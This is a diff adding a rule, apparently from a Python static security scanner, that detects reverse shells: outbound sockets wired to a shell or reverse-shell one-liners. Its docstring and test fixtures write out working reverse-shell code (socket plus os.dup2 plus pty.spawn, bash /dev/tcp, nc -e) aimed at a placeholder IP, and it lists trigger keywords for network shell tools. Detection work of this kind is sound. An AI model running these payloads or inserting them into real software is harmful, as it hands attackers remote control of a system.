@@ -1,0 +1,166 @@
+"""DS102 reverse-shell: an outbound connection wired to a shell, or a reverse-shell one-liner handed to a spawner."""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+import libcst as cst
+
+from datasec_scan.model import Category, Confidence, Severity
+from datasec_scan.rule import Rule
+from datasec_scan.semantics.constants import fold
+
+from ._remote import (REVERSE_SHELL_COMMANDS, SOCKET, Analyzer, any_match, code_of, keyword, match_command, positional,
+                      short)
+
+CONNECT_CALLS = ("socket.socket().connect", "socket.socket().connect_ex", "socket.create_connection",
+                 "asyncio.open_connection", "telnetlib.Telnet", "telnetlib.Telnet().open", "ssl.wrap_socket().connect",
+                 "*.wrap_socket().connect", "websocket.create_connection", "socket.socket().*connect")
+
+
+@dataclass
+class _Scope:
+    connects: list[cst.Call] = field(default_factory=list)
+    wirings: list[tuple[cst.Call, str, bool]] = field(default_factory=list)  # (call, what, strong)
+
+
+def wiring(an: Analyzer, call: cst.Call) -> tuple[str, bool] | None:
+    """How a call hands a connection to a shell: (description, strong) or None."""
+    qualified = an.call_names(call)
+    args = positional(call)
+    if "os.dup2" in qualified and len(args) == 2 and fold(args[1], an.names) in (0, 1, 2):
+        return f"os.dup2 of `{code_of(args[0], 30)}` onto fd {fold(args[1], an.names)}", True
+    if "pty.spawn" in qualified:
+        return "pty.spawn of a shell", False
+    spawn = an.spawn(call)
+    if spawn is None:
+        return None
+    for name in ("stdin", "stdout", "stderr"):
+        value = keyword(call, name)
+        if value is None:
+            continue
+        text = code_of(value, 80)
+        if "fileno()" in text or "makefile" in text or any(
+                "socket" in q or "create_connection" in q for q in an.names.qualified_names(value)):
+            return f"{spawn[1]} with {name} on the socket", True
+    command = args[0] if args else keyword(call, "args")
+    if command is not None and SOCKET in an.sources(command):
+        return f"{spawn[1]} runs commands received over the socket", True
+    return None
+
+
+class ReverseShell(Rule):
+    """An outbound connection wired to a shell (a reverse shell), or a reverse-shell one-liner run by a spawner.
+
+    ## What it does
+    Finds a function (or module) that connects out with `socket`, `asyncio.open_connection`,
+    `telnetlib`, `ssl.wrap_socket` or `socket.create_connection` and hands that connection to a
+    shell: `os.dup2` of the socket onto file descriptors 0/1/2, `pty.spawn`, a `subprocess` whose
+    stdin/stdout is the socket, or a spawner running commands read from it. Also finds classic
+    one-liners in strings passed to `os.system`, `subprocess`, `os.popen`, `pty.spawn`:
+    `bash -i >& /dev/tcp/...`, `nc -e /bin/sh`, `mkfifo ... | nc`, `socat exec:`, and
+    `python -c '...socket...dup2...'` style payloads.
+
+    ## Why is this bad?
+    A reverse shell gives whoever listens on the other end an interactive shell with the rights of
+    the process, through most firewalls, since the connection goes out.
+
+    ## Example
+    ```python
+    import os, pty, socket
+    s = socket.socket()
+    s.connect(("203.0.113.7", 4444))
+    for fd in (0, 1, 2):
+        os.dup2(s.fileno(), fd)
+    pty.spawn("/bin/sh")
+    ```
+
+    ## How to fix
+    Remove it. There is no legitimate reason for library code to wire a network connection to a shell.
+
+    ## References
+    - CWE-506: Embedded Malicious Code
+    - CWE-78: Improper Neutralization of Special Elements used in an OS Command
+    - MITRE ATT&CK T1059 (Command and Scripting Interpreter), T1071 (Application Layer Protocol)
+    """
+
+    code = "DS102"
+    name = "reverse-shell"
+    category = Category.REMOTE_ACCESS
+    severity = Severity.CRITICAL
+    confidence = Confidence.HIGH
+    cwe = (506, 78)
+    attack = ("T1059", "T1071")
+    triggers = ("socket", "/dev/tcp", "/dev/udp", "nc ", "ncat", "netcat", "mkfifo", "socat", "open_connection",
+                "telnet", "wrap_socket", "pty", "dup2", "TCPClient", "fsockopen", "__import__", "getattr",
+                "import_module", "\\x", "exec", "subprocess", "system", "popen", "spawn", "Popen")
+    VALID = (
+        "import subprocess\nsubprocess.run(['git', 'status'])\n",
+        "import pty\npty.spawn('/bin/bash')\n",
+        "import socket\ns = socket.create_connection(('example.com', 80))\ns.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n",
+    )
+    INVALID = (
+        "import os, socket, pty\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\n"
+        "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n",
+        "import os\nos.system('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')\n",
+        "import subprocess\nsubprocess.Popen(['nc', '-e', '/bin/sh', '203.0.113.7', '4444'])\n",
+    )
+
+    def __init__(self, context) -> None:
+        super().__init__(context)
+        self._scopes: list[_Scope] = []
+        self._all_connects: list[cst.Call] = []
+
+    def visit_Module(self, node: cst.Module) -> None:
+        self._scopes.append(_Scope())
+
+    def leave_Module(self, original_node: cst.Module) -> None:
+        self._finish(self._scopes.pop())
+
+    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
+        self._scopes.append(_Scope())
+
+    def leave_FunctionDef(self, original_node: cst.FunctionDef) -> None:
+        self._finish(self._scopes.pop())
+
+    def visit_Call(self, node: cst.Call) -> None:
+        an = Analyzer.of(self.context)
+        qualified = an.call_names(node)
+        scope = self._scopes[-1]
+        if any_match(qualified, CONNECT_CALLS) or (
+                isinstance(node.func, cst.Attribute) and node.func.attr.value in ("connect", "connect_ex")
+                and len(node.args) == 1 and isinstance(node.args[0].value, cst.Tuple)
+                and len(node.args[0].value.elements) == 2):
+            scope.connects.append(node)
+            self._all_connects.append(node)
+            return
+        spawn = an.spawn(node)
+        if spawn is not None:
+            text = an.command_text(node)
+            if text:
+                label = match_command(text, REVERSE_SHELL_COMMANDS)
+                if label:
+                    self.report(node, f"{spawn[1]} runs a reverse shell ({label}): `{short(text)}`",
+                                severity=Severity.CRITICAL, confidence=Confidence.HIGH)
+                    return
+        wired = wiring(an, node)
+        if wired is not None:
+            scope.wirings.append((node, wired[0], wired[1]))
+
+    def _finish(self, scope: _Scope) -> None:
+        if not scope.wirings:
+            return
+        connects = scope.connects or self._all_connects
+        if not connects:
+            return
+        strong = any(s for _, _, s in scope.wirings)
+        if not strong:  # pty.spawn alone next to a connection: only with a second signal in the same scope
+            return
+        connect = connects[0]
+        confidence = Confidence.HIGH if scope.connects else Confidence.MEDIUM
+        first = next(c for c, _, s in scope.wirings if s)
+        whats = list(dict.fromkeys(w for _, w, _ in scope.wirings))
+        self.report(first, f"reverse shell: {'; '.join(whats[:3])} after the outbound connection "
+                    f"`{code_of(connect, 50)}`", severity=Severity.CRITICAL, confidence=confidence,
+                    flow=((connect, "connects out"),) + tuple((c, f"wires the connection to a shell: {w}")
+                                                             for c, w, _ in scope.wirings))
